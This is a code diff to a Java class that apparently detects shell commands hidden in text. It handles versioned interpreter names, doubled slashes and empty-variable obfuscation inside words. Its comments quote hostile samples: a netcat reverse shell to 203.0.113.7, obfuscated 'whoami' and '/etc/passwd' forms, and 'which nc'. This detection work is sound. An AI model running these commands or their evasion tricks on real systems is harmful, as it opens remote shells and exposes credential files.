@@ -46,7 +46,7 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
 
     /** Reads a word of letters, digits and full stops alone. */
     private static ShellWord plain(Text text, int from, int end) {
-        var known = ShellWords.COMMANDS.find(text, from, end);
+        var known = ShellWords.COMMANDS.find(text, from, unversioned(text, from, end));
         return known == null || text.at(end) == '\'' && Text.isLetter(text.at(end + 1))
                 ? new ShellWord(text, end, Kind.NONE, NOTHING)
                 : new ShellWord(text, end, known, text.small(from, end));
@@ -83,8 +83,17 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
                 || c == '.'
                 || c == '$'
                 || noise(text, end) > 0
-                || ShellWords.BEGINNERS.has(text, from, end)
+                || ShellWords.BEGINNERS.has(text, from, unversioned(text, from, end))
                 || text.at(end) == '-' && PowerShell.isNamed(text, from, text.wordEnd(end + 1));
+    }
+
+    /** The end of the name of a program that runs code, without its version; the end itself where there is none: {@code python3.11}. */
+    private static int unversioned(Text text, int from, int end) {
+        var i = end;
+        while (i > from && (Text.isDigit(text.at(i - 1)) || text.at(i - 1) == '.')) {
+            i--;
+        }
+        return i < end && Text.isDigit(text.at(end - 1)) && ShellWords.RUNNERS.has(text, from, i) ? i : end;
     }
 
     /** Tells whether a line end is written with a backslash behind a command. */
@@ -105,7 +114,7 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
     }
 
     private static Kind kind(Text plain, boolean inFolder, boolean odd) {
-        var known = ShellWords.COMMANDS.find(plain, 0, plain.length());
+        var known = ShellWords.COMMANDS.find(plain, 0, unversioned(plain, 0, plain.length()));
         if (known == null) {
             return inFolder && plain.length() > 0 ? Kind.DISTINCT : Kind.NONE;
         }
@@ -120,6 +129,9 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
         var i = from;
         for (var part : FOLDERS) {
             i = folderEnd(text, i, part);
+        }
+        while (i > from && text.at(i - 1) == '/' && text.at(i) == '/') {
+            i++;
         }
         return text.at(i - 1) == '/' ? i : from;
     }
@@ -148,14 +160,14 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
     }
 
     /** How many characters stand at the index that a shell makes nothing of, in the midst of a word. */
-    private static int noise(Text text, int at) {
+    static int noise(Text text, int at) {
         var c = text.at(at);
         var next = text.at(at + 1);
         if (c == '`') {
             return next == '`' && Text.isLetter(text.at(at + 2)) ? 2 : 0;
         }
         if (c == '$') {
-            return next == '@' || next == '*' ? 2 : next == '(' && text.at(at + 2) == ')' ? 3 : 0;
+            return emptiness(text, at, next);
         }
         var quote = c == '\'' || c == '"' || c == '^' || c == '\\';
         if (!quote) {
@@ -165,6 +177,24 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
             return c == '^' || c == '\\' || isPaired(text, at, 1) || isPaired(text, at, -1) ? 1 : 0;
         }
         return next == c && Text.isLetter(text.at(at + 2)) ? 2 : 0;
+    }
+
+    /** How long a variable is that nobody has set, in the midst of a word: {@code who$@ami}, <code>cat${x}</code>, {@code /etc$u/passwd}. */
+    private static int emptiness(Text text, int at, char next) {
+        if (next == '@' || next == '*' || Text.isDigit(next)) {
+            return 2;
+        }
+        if (next == '(') {
+            return text.at(at + 2) == ')' ? 3 : 0;
+        }
+        var braced = next == '{';
+        var from = braced ? at + 2 : at + 1;
+        var end = text.wordEnd(from);
+        if (end == from || end - from > LONGEST || text.says("ifs", from)) {
+            return 0;
+        }
+        var closed = braced ? text.at(end) == '}' : text.at(end) == '/' || Text.isSpace(text.at(end));
+        return closed && Text.isLetter(text.at(at - 1)) ? end - at + (braced ? 1 : 0) : 0;
     }
 
     /** Tells whether the same quote stands once more in the word: one alone is the apostrophe of "I'd". */
@@ -186,7 +216,7 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
 
     /** Tells whether the command runs what an option says. */
     boolean isRunner() {
-        return ShellWords.RUNNERS.has(plain, 0, plain.length());
+        return ShellWords.RUNNERS.has(plain, 0, unversioned(plain, 0, plain.length()));
     }
 
     /** Tells whether people name the version of the program behind its name. */
@@ -217,6 +247,19 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
         var at = text.skipSpace(end);
         var stem = text.wordEnd(at);
         return at > end && stem > at && text.at(stem) == '.' && Text.isLetter(text.at(stem + 1));
+    }
+
+    /** Tells whether it asks where a program is, and nothing else follows: {@code which nc}. */
+    boolean asksForProgram() {
+        var at = text.skipSpace(end);
+        var asked = ShellWords.ASKS.has(plain, 0, plain.length()) && at > end ? at(text, at) : this;
+        return asked != this && asked.kind != Kind.NONE && asked.kind != Kind.ENGLISH && asked.isLast();
+    }
+
+    /** Tells whether it is one of those with which somebody looks around first, in small letters. */
+    boolean looksAround() {
+        return ShellWords.FIRST_LOOKS.has(plain, 0, plain.length())
+                && text.toString().startsWith(plain.toString(), end - plain.length());
     }
 
     boolean isFilter() {
@@ -289,18 +332,9 @@ record ShellWord(Text text, int end, Kind kind, Text plain) {
                 || kind == Kind.DISTINCT && (text.says("http://", at) || text.says("https://", at));
     }
 
-    /** Tells whether an option follows that takes code or a shell: {@code perl -e '...'}, {@code nc -e /bin/sh}. */
+    /** Tells whether an option follows that takes code or a shell: {@code perl -e '...'}, {@code nc 203.0.113.7 4444 -e /bin/sh}. */
     boolean runs() {
-        if (!isRunner()) {
-            return false;
-        }
-        for (var i = argument(); i < end + LONGEST && text.at(i) != Text.END; i++) {
-            if (text.at(i) == '-' && Text.isSpace(text.at(i - 1)) && "ecr".indexOf(text.lower(i + 1)) >= 0) {
-                var value = text.at(text.skipSpace(i + 2));
-                return text.at(i + 2) == ' ' && (value == '\'' || value == '"' || value == '/');
-            }
-        }
-        return false;
+        return isRunner() && ShellOption.takesCode(text, end, ShellWords.TIES.has(plain, 0, plain.length()));
     }
 
     /** Tells whether an option with a dash follows. */
